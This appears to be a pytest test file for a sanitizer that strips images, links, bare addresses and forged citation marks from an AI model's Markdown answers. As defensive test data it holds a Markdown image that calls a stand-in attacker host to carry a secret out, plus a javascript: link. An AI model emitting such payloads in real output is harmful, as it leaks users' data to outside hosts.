"""A model's words on the page: nothing in them loads, links or hides anything; no mark can be forged."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.page.text import mark_name, plain_title, safe_markdown, source_name, streamed_markdown, with_marks


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![secret](https://evil.example/?q=secret)", ""),
        ("Stop![1][2] There.", "Stop![1][2] There."),
        ("> [ref]: https://evil.example", "> [ref]\\: "),
        ("see [our terms](https://evil.example) now", "see our terms now"),
        ("It costs 7 [1](https://evil.example).", "It costs 7 [1]."),
        ("see [a](<javascript:alert(1)>) now", "see a now"),
        ("go to https://evil.example/x?q=1.", "go to ."),
        ("go to <https://evil.example/x>, then", "go to , then"),
        ("go to www.evil.example now", "go to  now"),
        ("[ref]: https://evil.example", "[ref]\\: "),
        ("the ratio:width of it", "the ratio\\:width of it"),
        ("at 10:30 it opens", "at 10:30 it opens"),
        ("It costs 7 euros [1].", "It costs 7 euros [1]."),
        ("**Bold**, *soft*, `code`\n- one\n- two", "**Bold**, *soft*, `code`\n- one\n- two"),
    ],
)
def test_images_links_and_addresses_become_words(written: str, shown: str) -> None:
    """Emphasis, lists, code and times stay as they are."""
    assert safe_markdown(written) == shown


def test_an_address_that_the_source_holds_stays_as_code() -> None:
    """The reader sees it and can copy it; it is still no link."""
    held = "Write to https://harbour.example/berths for a place."
    assert safe_markdown("Go to https://harbour.example/berths.", held) == "Go to `https://harbour.example/berths`."


@given(st.text(alphabet="![]()<>:/ahtps.wx \n"))
def test_no_words_leave_an_image_or_a_link_with_an_address(text: str) -> None:
    """Whatever is nested in whatever: no `](http` and no bare address is left."""
    shown = safe_markdown(text)
    assert "](http" not in shown
    assert "http://" not in shown.replace("`", "")
    assert "https://" not in shown.replace("`", "")


@pytest.mark.parametrize(
    ("streamed", "shown"),
    [
        ("It opens at 07:30 [12].", "It opens at 07:30."),
        ("It opens [12, 13] and", "It opens and"),
        ("It opens [1", "It opens"),
        ("It opens [", "It opens"),
        ("An array[x] stays", "An array[x] stays"),
    ],
)
def test_marks_are_hidden_while_words_stream(streamed: str, shown: str) -> None:
    """They still hold the model's paragraph numbers, which are not the reader's."""
    assert streamed_markdown(streamed) == shown


def test_only_the_marks_of_citations_become_names_of_elements() -> None:
    """`[2]` has no citation and stays text; a name holds a character that no answer can hold."""
    text = with_marks(safe_markdown("One [1], two [2], forged [1]\u2060."), {1})
    assert text == f"One {mark_name(1)}, two [2], forged {mark_name(1)}."
    assert "\u2060" in mark_name(1)
    assert "\u2060" not in safe_markdown(mark_name(1))


@given(st.text(max_size=200))
def test_no_file_name_can_be_taken_for_markdown(title: str) -> None:
    """What is left are letters, digits, spaces and punctuation that Markdown does not know."""
    plain = plain_title(title)
    assert not set(plain) & set("*_`~[]<>|\\!#&$:/\n\u2060\u200b")
    assert len(plain) <= 60
    assert "www." not in plain.lower()


def test_an_answer_does_not_begin_as_a_heading() -> None:
    """A model that repeats "## Fees The fee is ..." from a Markdown file speaks, it does not shout."""
    assert safe_markdown("## Fees The fee is 4 crowns.") == "Fees The fee is 4 crowns."
    assert safe_markdown("Run this:\n```\n# a comment\n```") == "Run this:\n```\n# a comment\n```"
    assert safe_markdown("#4 is the pier.") == "#4 is the pier."


def test_a_source_is_named_by_number_title_and_place() -> None:
    """The name as it stands under an answer; one line for all that stand in one place."""
    assert source_name([2], "tide_table *final*.pdf", "p. 7") == "[2] tide table final .pdf · p. 7"
    assert source_name([1, 3], "Handbook", "p. 7") == "[1] [3] Handbook · p. 7"
